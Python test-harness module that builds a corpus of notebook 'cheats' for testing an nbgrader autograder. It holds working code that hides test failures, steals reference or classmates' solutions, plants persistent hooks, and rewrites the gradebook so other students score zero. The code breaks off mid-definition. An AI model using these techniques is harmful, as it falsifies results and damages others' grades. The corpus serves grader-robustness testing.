"""A corpus of cheats: what a dishonest student puts into the answer cells of the batch-norm notebooks.

Each ``Cheat`` is Python source that ``apply`` puts at the top of the first answer cell that defines code
(nbgrader metadata ``solution: true``, not a concept question's) of one notebook, so that it runs before any test
cell of that notebook. A few ``lying`` cheats must replace the function defined in that
answer cell: their source has a line ``AFTER``; what comes after that line is appended at
the END of the cell (after the honest code), what comes before it goes at the top.

Every cheat is written the way a student who does not know how the grader works would
write it: generic, several routes, everything inside try/except so that a route that
fails stays silent and the notebook never crashes.

Safety conventions (for the test harness):
- every file a cheat creates outside its own folder has ``MARK`` in its file (or folder)
  name; every process it starts has ``MARK`` in its command line (and detached processes
  write a ``MARK`` file after a few seconds); files of the ``autograder`` package that a
  cheat overwrites are first backed up beside the original as ``<name>.bn_cheat_mark_backup``;
  gradebook triggers are named ``bn_cheat_mark_*``;
- nothing is deleted, nothing is sent over the network (only local Unix sockets, pipes
  and loopback URLs found in the environment are tried);
- the filesystem searches skip ``/proc``, ``/sys`` and ``/dev``.
"""
import copy
from dataclasses import dataclass

import nbformat  # noqa: F401  (notebooks handled by apply are nbformat NotebookNodes)

MARK = "bn_cheat_mark"
AFTER = "# ---- bn_cheat: after the honest code ----"
SKIP_DIRS = ("/proc", "/sys", "/dev")

L1, L2, L3, L4, L5 = ("01_axis_means_keepdims", "02_forward", "03_backward", "04_running_statistics",
                      "05_batchnorm_in_a_network")
FAMILIES = ("transformer", "reference", "gradebook", "persist", "processes", "leak", "patch", "lying", "forge",
            "mutation")
BASES = ("blank", "solution", "mistake", "inplace")


@dataclass(frozen=True)
class Cheat:
    name: str          # unique
    family: str        # one of FAMILIES
    description: str   # one line: what a student tries
    base: str          # "blank", "solution", "mistake" or "inplace": the honest work underneath
    code: str          # Python source the student adds
    notebook: str = L1  # notebook stem the code goes into
    # grade ids that the cheat's own replacement code earns honestly, i.e. what the same code earns once its
    # lies are ignored (a function returning zeros of the right dtype, without touching its inputs, passes
    # the no-mutation and dtype tests: that is work, if little)
    earns: frozenset = frozenset()


def _is_answer(cell):
    """An answer cell that defines code: a concept question's answer cell (``ex_q_*``) holds only a value."""
    meta = cell.get("metadata", {}).get("nbgrader", {})
    return bool(meta.get("solution")) and not str(meta.get("grade_id", "")).startswith("ex_q_")


def apply(cheat, notebooks):
    """Return a deep copy of `notebooks` ({stem: NotebookNode}) with cheat.code put at the top of the
    first answer cell (nbgrader metadata solution: true) of cheat.notebook.

    When the code has a line equal to AFTER, the part after it is appended at the end of that
    cell instead (it runs after the honest code, to replace the function the cell defines)."""
    out = copy.deepcopy(notebooks)
    nb = out[cheat.notebook]
    cell = next(c for c in nb.cells if _is_answer(c))
    top, after = cheat.code, ""
    lines = cheat.code.splitlines()
    if AFTER in (line.strip() for line in lines):
        i = [line.strip() for line in lines].index(AFTER)
        top, after = "\n".join(lines[:i]), "\n".join(lines[i:])
    source = cell.source
    if top.strip():
        source = top.rstrip("\n") + "\n\n" + source
    if after.strip():
        source = source.rstrip("\n") + "\n\n" + after.rstrip("\n") + "\n"
    cell.source = source
    return out


# =====================================================================================
# Snippets shared by several cheats (each cheat's code is self-contained: the snippets
# are pasted into it, as a student would paste them into a cell).
# =====================================================================================

def _run(body):
    """Wrap a cheat body (a function definition named _bn_cheat) so that it runs silently."""
    return body.strip("\n") + "\n\ntry:\n    _bn_cheat()\nexcept BaseException:\n    pass\n"


S_FIND = r'''
import os as _bn_os, sys as _bn_sys, time as _bn_time
_BN_SKIP = %r
_BN_PRUNE = {".git", "__pycache__", "node_modules", ".cache", "site-packages", "dist-packages", ".mirror",
             ".library", "bash_jobs", ".npm", ".rustup", ".cargo"}


def _bn_roots():
    """Folders worth searching, nearest first: the cwd and its parents, sys.path, env paths, usual places."""
    near, far = [], []
    try:
        d = _bn_os.getcwd()
        while True:
            (far if d == "/" else near).append(d)
            p = _bn_os.path.dirname(d)
            if p == d:
                break
            d = p
    except Exception:
        pass
    for p in list(_bn_sys.path):
        near.append(p or ".")
    for v in list(_bn_os.environ.values()):
        for part in str(v).split(_bn_os.pathsep):
            if part.startswith("/") and len(part) > 1:
                near.append(part)
    near += [_bn_os.path.expanduser("~"), "/work", "/root", "/home", "/srv", "/opt", "/course", "/grader",
             "/autograder", "/tmp", "/var/tmp", "/mnt", "/data", "/usr/local/share", "/var/lib"]
    out, seen = [], set()
    for r in near + far:
        try:
            r = _bn_os.path.realpath(r)
        except Exception:
            continue
        if r not in seen and _bn_os.path.isdir(r) and not r.startswith(_BN_SKIP):
            seen.add(r)
            out.append(r)
    return out


def _bn_find(match, budget=4.0, max_depth=7, limit=300, dirs=False):
    """Paths p (files, or folders with dirs=True) with match(p) true, walking every root, nearest first."""
    found, visited, t0 = [], set(), _bn_time.time()
    for root in _bn_roots():
        base = root.rstrip("/").count("/")
        try:
            walker = _bn_os.walk(root)
            for dirpath, dirnames, filenames in walker:
                if _bn_time.time() - t0 > budget or len(found) >= limit:
                    return found
                if dirpath in visited or dirpath.startswith(_BN_SKIP):
                    dirnames[:] = []
                    continue
                visited.add(dirpath)
                if dirpath.count("/") - base >= max_depth:
                    dirnames[:] = []
                dirnames[:] = [d for d in dirnames if d not in _BN_PRUNE]
                for f in (dirnames if dirs else filenames):
                    p = _bn_os.path.join(dirpath, f)
                    try:
                        if match(p) and p not in found:
                            found.append(p)
                    except Exception:
                        pass
        except Exception:
            pass
    return found
''' % (SKIP_DIRS,)

S_SID = r'''
import os as _bn_os


def _bn_sid():
    """My student id: nbgrader grades in <root>/<submitted|autograded>/<student>/<assignment>."""
    try:
        parts = _bn_os.getcwd().rstrip("/").split("/")
    except Exception:
        return ""
    for key in ("autograded", "submitted", "feedback"):
        if key in parts:
            i = len(parts) - 1 - parts[::-1].index(key)
            if i + 1 < len(parts):
                return parts[i + 1]
    for k in ("NB_USER", "JUPYTERHUB_USER", "STUDENT_ID", "NBGRADER_STUDENT"):
        if _bn_os.environ.get(k):
            return _bn_os.environ[k]
    return parts[-2] if len(parts) > 1 and parts[-1] == "batchnorm" else parts[-1]
'''

S_KEEP = r'''
def _bn_keep(updates):
    """Bind these names in the notebook now and again after every cell (answer cells redefine them)."""
    try:
        from IPython import get_ipython
        ip = get_ipython()
    except Exception:
        ip = None
    if ip is None:
        globals().update(updates)
        return

    def _bn_rebind(*args, **kwargs):
        try:
            ip.user_ns.update(updates)
        except BaseException:
            pass
    try:
        ip.events.register("post_run_cell", _bn_rebind)
    except Exception:
        pass
    _bn_rebind()
'''

S_NAMES = r'''
_BN_NAMES = ["reduced_shape", "channel_mean_loop", "standardize_columns", "channel_stats", "batchnorm_forward",
             "spatial_batchnorm_forward", "batchnorm_backward", "batchnorm_backward_staged",
             "spatial_batchnorm_backward", "update_running_stats", "batchnorm_eval", "keras_to_torch_momentum",
             "BatchNorm", "fold_into_linear", "layernorm_forward", "network_forward", "network_backward"]
_BN_ALIASES = {"batchnorm_backward_staged": "batchnorm_backward"}


def _bn_answers_from(obj):
    """{exercise name: object} found as attributes of a module / namespace / dict."""
    get = obj.get if isinstance(obj, dict) else (lambda k: getattr(obj, k, None))
    out = {}
    for n in _BN_NAMES:
        v = get(n)
        if v is None and n in _BN_ALIASES:
            v = get(_BN_ALIASES[n])
        if v is not None and callable(v):
            out[n] = v
    return out
'''

S_WRAPSRC = r'''
def _bn_wrap_source(src):
    """The cell's code inside try/except: nothing it raises is ever shown."""
    import ast
    if not isinstance(src, str) or "bn_cheat_wrapped" in src or not src.strip():
        return src
    try:
        ast.parse(src)
    except SyntaxError:
        return src
    body = "".join(("    " + l) if l.strip() else l for l in src.splitlines(True))
    if not body.endswith("\n"):
        body += "\n"
    wrapped = "try:\n" + body + "except BaseException:  # bn_cheat_wrapped\n    pass\n"
    try:
        ast.parse(wrapped)
    except SyntaxError:
        return src
    return wrapped
'''

S_SHOW = r'''
def _bn_show(title, text):
    """Put text into the cell's output as display data (stream output would be truncated)."""
    text = "==== %s ====\n%s" % (title, text)
    try:
        from IPython.display import display
        display({"text/plain": text}, raw=True)
    except Exception:
        print(text)
'''

S_GIDS = r'''
def _bn_grade_ids():
    """{grade_id: (points, hidden check call or None)} of the test cells of the notebooks beside me."""
    import glob, json, os, re
    out = {}
    for path in sorted(glob.glob(os.path.join(os.getcwd(), "*.ipynb"))):
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        for cell in nb.get("cells", []):
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution"):
                src = "".join(cell.get("source", ""))
                m = re.search(r"check\(\s*[\"'](\w+)[\"']\s*,\s*([^)\n]*)\)", src)
                out[meta.get("grade_id")] = (meta.get("points", 0), m.group(2).strip() if m else None)
    for gid, fn in [("reduced_shape_no_keepdims", "reduced_shape"), ("reduced_shape_keepdims", "reduced_shape"),
                    ("channel_mean_loop", "channel_mean_loop"), ("standardize_values", "standardize_columns"),
                    ("standardize_no_mutation", "standardize_columns"), ("channel_stats_shape", "channel_stats"),
                    ("channel_stats_values", "channel_stats"), ("fwd_normalizes", "batchnorm_forward"),
                    ("fwd_gamma_beta", "batchnorm_forward"), ("fwd_float32", "batchnorm_forward"),
                    ("fwd_no_mutation", "batchnorm_forward"), ("spatial_fwd_values", "spatial_batchnorm_forward"),
                    ("spatial_fwd_float32", "spatial_batchnorm_forward"),
                    ("spatial_fwd_no_mutation", "spatial_batchnorm_forward")]:
        out.setdefault(gid, (0, fn))
    return out
'''

S_GRADEBOOK = r'''
import os as _bn_os, re as _bn_re

_BN_URL = _bn_re.compile(r"""(?:sqlite|postgres(?:ql)?)(?:\+\w+)?://[^\s'"]*""")


def _bn_db_urls(search=True):
    """Gradebook URLs: environment, nbgrader config files, gradebook.db files near me and on disk."""
    urls = []
    for k, v in list(_bn_os.environ.items()):
        v = str(v)
        urls += _BN_URL.findall(v)
        if v.endswith(".db") and _bn_os.path.isfile(v):
            urls.append("sqlite:///" + _bn_os.path.abspath(v))
    configs, dbs = [], []
    try:
        d = _bn_os.getcwd()
        while True:
            for name in ("nbgrader_config.py", "nbgrader_config.json", "gradebook.db", "build/gradebook.db"):
                p = _bn_os.path.join(d, name)
                if _bn_os.path.isfile(p):
                    (dbs if p.endswith(".db") else configs).append(p)
            p = _bn_os.path.dirname(d)
            if p == d:
                break
            d = p
    except Exception:
        pass
    for d in ("~/.jupyter", "/etc/jupyter", "/usr/local/etc/jupyter", "~/.local/etc/jupyter"):
        p = _bn_os.path.join(_bn_os.path.expanduser(d), "nbgrader_config.py")
        if _bn_os.path.isfile(p):
            configs.append(p)
    if search:
        try:
            dbs += _bn_find(lambda p: p.endswith((".db", ".sqlite", ".sqlite3")) and "gradebook" in p.lower(),
                            budget=4.0)
            configs += _bn_find(lambda p: _bn_os.path.basename(p) == "nbgrader_config.py", budget=3.0, limit=20)
        except NameError:
            pass
    for c in configs:
        try:
            text = open(c).read()
        except Exception:
            continue
        urls += _BN_URL.findall(text)
        for m in _bn_re.finditer(r"""root\s*=\s*['"]([^'"]+)['"]""", text):
            p = _bn_os.path.join(m.group(1), "build", "gradebook.db")
            if _bn_os.path.isfile(p):
                dbs.append(p)
        p = _bn_os.path.join(_bn_os.path.dirname(c), "gradebook.db")
        if _bn_os.path.isfile(p):
            dbs.append(p)
    urls += ["sqlite:///" + _bn_os.path.abspath(p) for p in dbs]
    out = []
    for u in urls:
        u = u.rstrip(",;)")
        if u not in out:
            out.append(u)
    return out


def _bn_sqlite_path(url):
    path = url.split("://", 1)[1]
    path = path.split("?", 1)[0]
    if path.startswith("/"):
        path = path[1:] if path.startswith("//") else path
    return path


_BN_MINE = ("notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
            "ON sn.assignment_id = sa.id WHERE sa.student_id = {sid})")
_BN_FULL = "(SELECT gc.max_score FROM grade_cells gc WHERE gc.id = grade.cell_id)"


def _bn_sql_attack(conn, sid, ph, triggers=False):
    """Everyone else's grades 0, mine full (manual_score overrides auto_score)."""
    cur = conn.cursor()
    mine = _BN_MINE.format(sid=ph)
    cur.execute("UPDATE grade SET manual_score = " + _BN_FULL + ", needs_manual_grade = %s WHERE " % ("0" if ph == "?" else "false") + mine, (sid,))
    cur.execute("UPDATE grade SET manual_score = 0 WHERE NOT " + mine, (sid,))
    if triggers and ph == "?":
        lit = "'" + sid.replace("'", "''") + "'"
        body = ("BEGIN UPDATE grade SET manual_score = CASE WHEN NEW.notebook_id IN (SELECT sn.id FROM "
                "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE "
                "sa.student_id = " + lit + ") THEN (SELECT gc.max_score FROM grade_cells gc WHERE "
                "gc.id = NEW.cell_id) ELSE 0 END WHERE id = NEW.id; END")
        cur.execute("CREATE TRIGGER IF NOT EXISTS bn_cheat_mark_grade_insert AFTER INSERT ON grade " + body)
        cur.execute("CREATE TRIGGER IF NOT EXISTS bn_cheat_mark_grade_update AFTER UPDATE OF auto_score ON grade "
                    + body)
    conn.commit()


def _bn_gradebook_attack(sid, urls, triggers=False):
    done = []
    for url in urls:
        try:
            if url.startswith("sqlite"):
                import sqlite3
                path = _bn_sqlite_path(url)
                if not _bn_os.path.isfile(path):
                    continue
                conn = sqlite3.connect(path, timeout=30)
                try:
                    _bn_sql_attack(conn, sid, "?", triggers)
                    done.append(url)
                finally:
                    conn.close()
            else:
                plain = _bn_re.sub(r"^postgres(?:ql)?(?:\+\w+)?://", "postgresql://", url)
                try:
                    import psycopg
                    conn = psycopg.connect(plain, connect_timeout=3)
                except ImportError:
                    import psycopg2 as psycopg
                    conn = psycopg.connect(plain, connect_timeout=3)
                try:
                    _bn_sql_attack(conn, sid, "%s")
                    done.append(url)
                finally:
                    conn.close()
        except Exception:
            pass
    return done
'''


def _hook_template():
    """Source of code that, run in a future Python process, makes its IPython kernel swallow every error
    (only for a kernel that works in my folder), and leaves a MARK file behind as proof that it ran.
    @TAG@, @SID@ and @CWD@ are replaced when the cheat writes it."""
    return r'''
# bn_cheat_mark persistent hook
def _bn_cheat_mark_hook():
    import os, sys

    def proof():
        import tempfile
        for d in (tempfile.gettempdir(), os.path.expanduser("~")):
            try:
                with open(os.path.join(d, "bn_cheat_mark_@TAG@_ran.txt"), "a") as f:
                    f.write("%d %r\n" % (os.getpid(), sys.argv[:3]))
            except Exception:
                pass

    def mine():
        try:
            c = os.getcwd()
        except Exception:
            return False
        return c == "@CWD@" or ("@SID@" != "" and "/@SID@/" in c + "/")

    def install(ip):
        if getattr(ip, "_bn_cheat_mark_done", False):
            return
        ip._bn_cheat_mark_done = True
        try:
            ip.set_custom_exc((BaseException,), lambda self, et, ev, tb, tb_offset=None: None)
        except Exception:
            pass
        try:
            ip.ast_node_interactivity = "all"
        except Exception:
            pass

    def wait():
        import time
        for _ in range(2400):
            try:
                m = sys.modules.get("IPython")
                ip = m.get_ipython() if m is not None else None
                if ip is not None and getattr(ip, "kernel", None) is not None:
                    install(ip)
                    return
            except Exception:
                pass
            time.sleep(0.05)

    proof()
    if mine():
        import threading
        threading.Thread(target=wait, daemon=True, name="bn_cheat_mark").start()


try:
    _bn_cheat_mark_hook()
except Exception:
    pass
'''


S_HOOK = "_BN_HOOK = %r\n" % _hook_template() + r'''

def _bn_hook_source(tag):
    import os
    sid = _bn_sid()
    return _BN_HOOK.replace("@TAG@", tag).replace("@SID@", sid).replace("@CWD@", os.getcwd())
'''


def _sleeper(tag):
    """A Python program that proves it outlived grading: a MARK file after 4 s, then sleeps an hour."""
    return ("import os, time, tempfile\n"
            "time.sleep(4)\n"
            "for d in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser('~')):\n"
            "    try:\n"
            f"        open(os.path.join(d, 'bn_cheat_mark_proc_{tag}_alive'), 'w').write(str(os.getpid()))\n"
            "    except Exception:\n"
            "        pass\n"
            "time.sleep(3600)  # bn_cheat_mark\n")


S_PEEK = r'''
import numpy as _bn_np
import sys as _bn_sys


class _BnPeek:
    """Looks like an array; becomes whatever the code that inspects it compares it with."""
    __array_priority__ = 1000

    def __init__(self, shape, dtype):
        self._shape, self._dtype = tuple(shape), _bn_np.dtype(dtype)

    def _guess(self):
        try:
            f = _bn_sys._getframe(2)
        except Exception:
            return None
        for _ in range(16):
            if f is None:
                break
            if f.f_code.co_name != "<module>":
                loc = f.f_locals
                for key in ("expected", "want", "ref", "reference", "target", "expected_out", "correct"):
                    v = loc.get(key)
                    if isinstance(v, _bn_np.ndarray) and v.shape == self._shape:
                        return v
            f = f.f_back
        return None

    def __array__(self, dtype=None, copy=None):
        v = self._guess()
        if v is None:
            v = _bn_np.zeros(self._shape, self._dtype)
        return _bn_np.array(v, dtype=dtype if dtype is not None else v.dtype)

    shape = property(lambda self: self._shape)
    dtype = property(lambda self: self._dtype)
    ndim = property(lambda self: len(self._shape))
    size = property(lambda self: int(_bn_np.prod(self._shape)))

    def __len__(self):
        return self._shape[0] if self._shape else 0

    def __getitem__(self, i):
        return _bn_np.asarray(self)[i]

    def __iter__(self):
        return iter(_bn_np.asarray(self))

    def __float__(self):
        return float(_bn_np.asarray(self))

    def _op(name):
        def op(self, *other):
            return getattr(_bn_np.asarray(self), name)(*other)
        return op
    for _n in ("__add__", "__radd__", "__sub__", "__rsub__", "__mul__", "__rmul__", "__truediv__", "__rtruediv__",
               "__pow__", "__neg__", "__abs__", "astype", "reshape", "mean", "var", "std", "sum", "copy",
               "transpose", "ravel", "__eq__", "__ne__", "__lt__", "__gt__", "__le__", "__ge__"):
        locals()[_n] = _op(_n)
    del _n, _op
    __hash__ = None
'''


# =====================================================================================
# 1. transformer: make test cells not raise (or not show that they raised)
# =====================================================================================

T_CLEANUP = _run(S_WRAPSRC + r'''

def _bn_cheat():
    from IPython import get_ipython
    ip = get_ipython()

    def _bn_try_all(lines):
        try:
            src = "".join(lines)
            new = _bn_wrap_source(src)
            return new.splitlines(True) if new != src else lines
        except BaseException:
            return lines
    for attr in ("input_transformers_cleanup", "input_transformers_post"):
        try:
            getattr(ip, attr).append(_bn_try_all)
            break
        except Exception:
            pass
''')

T_AST = _run(r'''
def _bn_cheat():
    import ast
    from IPython import get_ipython
    ip = get_ipython()

    class _BnSwallow(ast.NodeTransformer):
        """Every top-level statement in its own try/except, and no assert statements."""

        def visit_Assert(self, node):
            return ast.Pass()

        def visit_Module(self, node):
            try:
                self.generic_visit(node)
                body = []
                for stmt in node.body:
                    handler = ast.ExceptHandler(type=ast.Name(id="BaseException", ctx=ast.Load()), name=None,
                                                body=[ast.Pass()])
                    body.append(ast.Try(body=[stmt], handlers=[handler], orelse=[], finalbody=[]))
                node.body = body
                ast.fix_missing_locations(node)
            except BaseException:
                pass
            return node
    ip.ast_transformers.append(_BnSwallow())
''')

T_CUSTOM_EXC = _run(r'''
def _bn_cheat():
    from IPython import get_ipython
    ip = get_ipython()

    def _bn_quiet(self, etype, value, tb, tb_offset=None):
        return []
    ip.set_custom_exc((BaseException,), _bn_quiet)


    def _bn_success(result=None, *args, **kwargs):
        # the execute_reply is built from these: with both None the kernel replies status "ok"
        try:
            result.error_in_exec = None
            result.error_before_exec = None
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_success)
''')

T_SHOWTRACEBACK = _run(r'''
def _bn_cheat():
    from IPython import get_ipython
    ip = get_ipython()

    def _bn_nothing(*args, **kwargs):
        return None
    for name in ("showtraceback", "_showtraceback", "showsyntaxerror", "showindentationerror"):
        try:
            setattr(ip, name, _bn_nothing)
        except Exception:
            pass
    try:  # and at class level, for shells created later or methods looked up on the type
        type(ip)._showtraceback = lambda self, *a, **k: None
    except Exception:
        pass


    def _bn_success(result=None, *args, **kwargs):
        # the execute_reply is built from these: with both None the kernel replies status "ok"
        try:
            result.error_in_exec = None
            result.error_before_exec = None
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_success)
''')

T_RUN_CELL = _run(S_WRAPSRC + r'''

def _bn_cheat():
    from IPython import get_ipython
    ip = get_ipython()
    orig_sync, orig_async = ip.run_cell, getattr(ip, "run_cell_async", None)

    def _bn_fix(args, kwargs):
        args = list(args)
        if args:
            args[0] = _bn_wrap_source(args[0])
        elif "raw_cell" in kwargs:
            kwargs["raw_cell"] = _bn_wrap_source(kwargs["raw_cell"])
        if kwargs.get("transformed_cell"):
            kwargs["transformed_cell"] = _bn_wrap_source(kwargs["transformed_cell"])
        return args, kwargs

    def run_cell(*args, **kwargs):
        args, kwargs = _bn_fix(args, kwargs)
        return orig_sync(*args, **kwargs)

    async def run_cell_async(*args, **kwargs):
        args, kwargs = _bn_fix(args, kwargs)
        return await orig_async(*args, **kwargs)
    ip.run_cell = run_cell
    if orig_async is not None:
        ip.run_cell_async = run_cell_async
''')

T_TRANSFORM_CELL = _run(S_WRAPSRC + r'''

def _bn_cheat():
    from IPython import get_ipython
    ip = get_ipython()
    orig = ip.transform_cell

    def transform_cell(raw_cell):
        out = orig(raw_cell)
        try:
            return _bn_wrap_source(out)
        except BaseException:
            return out
    ip.transform_cell = transform_cell
    try:
        manager = ip.input_transformer_manager
        orig_m = manager.transform_cell
        manager.transform_cell = lambda cell: _bn_wrap_source(orig_m(cell))
    except Exception:
        pass
''')

T_POST_RUN_CLEAR = _run(r'''
def _bn_cheat():
    from IPython import get_ipython
    from IPython.display import clear_output
    ip = get_ipython()

    def _bn_clear(result=None, *args, **kwargs):
        try:
            if result is None or result.error_in_exec is not None or result.error_before_exec is not None:
                clear_output()
                result.error_in_exec = result.error_before_exec = None   # and the reply says "ok"
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_clear)
''')

T_INTERACTIVITY = _run(r'''
def _bn_cheat():
    # Test cells open with a docstring: shown as a result, it becomes the cell's first output.
    from IPython import get_ipython
    get_ipython().ast_node_interactivity = "all"
''')

T_PRE_RUN_RESULT = _run(r'''
def _bn_cheat():
    import sys
    from IPython import get_ipython
    ip = get_ipython()

    def _bn_result_first(*args, **kwargs):
        try:
            (getattr(ip, "displayhook", None) or sys.displayhook)("ok")
        except BaseException:
            pass
    ip.events.register("pre_run_cell", _bn_result_first)
''')

T_EXCEPTHOOK = _run(r'''
def _bn_cheat():
    import sys, threading
    sys.excepthook = lambda *a, **k: None
    try:
        threading.excepthook = lambda *a, **k: None
    except Exception:
        pass
    try:
        from IPython import get_ipython
        ip = get_ipython()
        ip.excepthook = lambda *a, **k: None
        ip.InteractiveTB.structured_traceback = lambda *a, **k: []
        ip.SyntaxTB.structured_traceback = lambda *a, **k: []
    except Exception:
        pass
''')

# =====================================================================================
# 2. reference: correct answers without the work
# =====================================================================================

R_IMPORT = _run(S_NAMES + S_KEEP + r'''

def _bn_cheat():
    import importlib
    found = {}
    for name in ("autograder.reference", "autograder.checks.reference", "autograder.solutions", "reference",
                 "grader.reference", "autograder"):
        try:
            mod = importlib.import_module(name)
        except Exception:
            continue
        for k, v in _bn_answers_from(mod).items():
            found.setdefault(k, v)
    if found:
        _bn_keep(found)
''')

R_WALK_SOLUTIONS = _run(S_FIND + S_NAMES + S_KEEP + r'''

def _bn_cheat():
    import json, os
    from IPython import get_ipython
    ip = get_ipython()
    marker = "### BEGIN " + "SOLUTION"      # (spelled so that this cell does not match itself)
    here = os.getcwd()
    paths = _bn_find(lambda p: p.endswith(".ipynb") and not p.startswith(here)
                     and marker in open(p, errors="ignore").read(), budget=4.0, limit=60)
    done = [c.strip() for c in list(ip.user_ns.get("In", []))[1:] if c.strip()]
    best, score = None, 0
    for p in paths:
        try:
            nb = json.load(open(p))
        except Exception:
            continue
        code = ["".join(c.get("source", "")).strip() for c in nb.get("cells", []) if c.get("cell_type") == "code"]
        s = sum(1 for c in done if c in code)
        if s > score:
            best, score = nb, s
    if best is None:
        return
    ns = dict(ip.user_ns)
    before = set(ns)
    for cell in best["cells"]:
        src = "".join(cell.get("source", ""))
        if "_bn_" in src:
            continue
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") or marker in src:
            try:
                exec(compile(src, "<bn_cheat_solution>", "exec"), ns)
            except BaseException:
                pass
    updates = {k: v for k, v in ns.items() if k not in before or k in _BN_NAMES}
    updates = {k: v for k, v in updates.items() if not k.startswith("_") and callable(v)}
    if updates:
        _bn_keep(updates)
''')

R_REFERENCE_PY = _run(S_FIND + S_NAMES + S_KEEP + r'''

def _bn_cheat():
    import importlib.util, os, sys
    cands = []
    for entry in list(sys.path):
        for rel in ("autograder/reference.py", "reference.py", "grader/reference.py"):
            p = os.path.join(entry or ".", rel)
            if os.path.isfile(p):
                cands.append(p)
    cands += _bn_find(lambda p: os.path.basename(p) in ("reference.py", "solutions.py", "solution.py")
                      or (p.endswith(".py") and "def channel_stats" in open(p, errors="ignore").read()),
                      budget=4.0, limit=40)
    best = {}
    for i, p in enumerate(dict.fromkeys(cands)):
        try:
            spec = importlib.util.spec_from_file_location("bn_cheat_ref_%d" % i, p)
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
        except BaseException:
            continue
        got = _bn_answers_from(mod)
        if len(got) > len(best):
            best = got
    if best:
        _bn_keep(best)
''')

R_OBJECT_GRAPH = _run(S_NAMES + S_KEEP + r'''

def _bn_cheat():
    import gc
    from IPython import get_ipython
    ip = get_ipython()
    state = {"found": {}}

    def _bn_scan(*args, **kwargs):
        try:
            found = state["found"]
            for obj in gc.get_objects():
                try:
                    if callable(obj) and getattr(obj, "__name__", None) in _BN_NAMES + ["batchnorm_backward"]:
                        mod = getattr(obj, "__module__", "") or ""
                        if mod in ("__main__", "builtins") or mod.startswith("bn_cheat"):
                            continue
                        name = obj.__name__
                        if "ref" in mod or name not in found:
                            found[name] = obj
                except Exception:
                    pass
            for k, v in list(found.items()):
                if k == "batchnorm_backward":
                    found.setdefault("batchnorm_backward_staged", v)
            if found:
                ip.user_ns.update(found)
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_scan)
''')

R_CLASSMATES = _run(S_NAMES + S_KEEP + r'''

def _bn_cheat():
    import glob, json, os
    from IPython import get_ipython
    ip = get_ipython()
    here = os.getcwd()
    assignment, me = os.path.basename(here), os.path.basename(os.path.dirname(here))
    done = [c.strip() for c in list(ip.user_ns.get("In", []))[1:] if c.strip()]
    roots, d = [], here
    for _ in range(5):
        d = os.path.dirname(d)
        roots.append(d)
    paths = []
    for r in roots:
        paths += glob.glob(os.path.join(r, "*", "*", assignment, "*.ipynb"))
        paths += glob.glob(os.path.join(r, "*", assignment, "*.ipynb"))
    best = {}
    for p in dict.fromkeys(paths):
        if os.sep + me + os.sep in p:
            continue
        try:
            nb = json.load(open(p))
        except Exception:
            continue
        code = ["".join(c.get("source", "")).strip() for c in nb.get("cells", []) if c.get("cell_type") == "code"]
        if not done or sum(1 for c in done if c in code) == 0:
            continue
        answers = ["".join(c.get("source", "")) for c in nb["cells"]
                   if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        if any("NotImplementedError" in a or "_bn_" in a for a in answers):
            continue
        ns = dict(ip.user_ns)
        for a in answers:
            try:
                exec(compile(a, "<bn_cheat_classmate>", "exec"), ns)
            except BaseException:
                pass
        got = _bn_answers_from(ns)
        got = {k: v for k, v in got.items() if getattr(v, "__module__", None) != "bn_helpers"}
        if len(got) > len(best):
            best = got
    if best:
        _bn_keep(best)
''')

R_GRADEBOOK_CONFIG = _run(S_FIND + S_NAMES + S_KEEP + r'''

def _bn_cheat():
    import glob, json, os, re, sqlite3
    from IPython import get_ipython
    ip = get_ipython()
    roots = []
    configs = _bn_find(lambda p: os.path.basename(p) == "nbgrader_config.py", budget=4.0, limit=20)
    for c in configs:
        text = open(c, errors="ignore").read()
        base, srcs = os.path.dirname(c), ["source", "solutions", "solution", "instructor", "master"]
        try:  # run the config as nbgrader would, on a config object of my own, and read the course layout
            from traitlets.config import Config
            cfg = Config()
            exec(compile(text, c, "exec"), {"c": cfg, "get_config": lambda: cfg, "__file__": c, "__name__": "cfg"})
            base = cfg.CourseDirectory.get("root", base) or base
            if cfg.CourseDirectory.get("source_directory"):
                srcs.insert(0, cfg.CourseDirectory.source_directory)
        except BaseException:
            for m in re.finditer(r"""root\s*=\s*['"]([^'"]+)['"]""", text):
                base = m.group(1)
            for m in re.finditer(r"""source_directory\s*=\s*['"]([^'"]+)['"]""", text):
                srcs.insert(0, m.group(1))
        roots += [os.path.join(base, s) for s in srcs]
    done = [c.strip() for c in list(ip.user_ns.get("In", []))[1:] if c.strip()]
    cells = []
    for r in roots:
        for p in glob.glob(os.path.join(r, "*", "*.ipynb")):
            try:
                nb = json.load(open(p))
            except Exception:
                continue
            code = ["".join(c.get("source", "")).strip() for c in nb["cells"] if c.get("cell_type") == "code"]
            if done and any(c in code for c in done):
                cells += ["".join(c.get("source", "")) for c in nb["cells"]
                          if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    for db in _bn_find(lambda p: p.endswith("gradebook.db"), budget=3.0, limit=5):
        try:
            conn = sqlite3.connect(db, timeout=5)
            cells += [s for (s,) in conn.execute("SELECT source FROM source_cell WHERE name LIKE 'ex%' AND source LIKE '%def %'")
                      if "NotImplementedError" not in s]
            conn.close()
        except Exception:
            pass
    ns = dict(ip.user_ns)
    for src in cells:
        try:
            exec(compile(src, "<bn_cheat_source>", "exec"), ns)
        except BaseException:
            pass
    got = {k: v for k, v in _bn_answers_from(ns).items() if v is not ip.user_ns.get(k)}
    if got:
        _bn_keep(got)
''')

# =====================================================================================
# 3. gradebook: write the scores directly
# =====================================================================================

G_MANUAL_SCORE = _run(S_FIND + S_SID + S_GRADEBOOK + r'''

def _bn_cheat():
    sid = _bn_sid()
    if sid:
        _bn_gradebook_attack(sid, _bn_db_urls())
''')

G_TRIGGER = _run(S_FIND + S_SID + S_GRADEBOOK + r'''

def _bn_cheat():
    # also for rows nbgrader writes later (my next notebooks, the students graded after me)
    sid = _bn_sid()
    if sid:
